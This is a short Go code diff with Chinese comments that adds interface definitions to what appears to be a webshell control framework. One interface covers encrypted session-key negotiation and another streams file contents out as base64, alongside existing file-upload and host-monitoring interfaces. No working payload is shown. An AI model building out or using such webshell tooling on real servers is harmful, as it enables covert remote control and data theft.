@@ -24,6 +24,20 @@ type FileManager interface {
 	UploadChunk(path string, fileData string, chunkIndex int, totalChunks int) []byte //大文件上传
 }
 
+// 支持会话密钥协商的webshell
+// 服务端校验客户端公钥的MAC后生成临时密钥对，派生会话密钥并保存在服务端新建的会话中
+// 会话标识由服务端生成并参与MAC计算，客户端无法指定
+// 输出: base64(服务端公钥):base64(MAC):会话标识
+type KeyNegotiator interface {
+	NegotiateKey(clientPublic, mac []byte) []byte
+}
+
+// 支持流式下载的webshell
+// 直接输出文件内容的base64编码(不含JSON包装)，出错时输出 Error://[原因]
+type StreamDownloader interface {
+	DownloadStream(path string) []byte
+}
+
 type Monitor interface {
 	GetNetworkInterfaces() []byte //获取网卡信息
 	GetListeningPorts() []byte    //获取监听的端口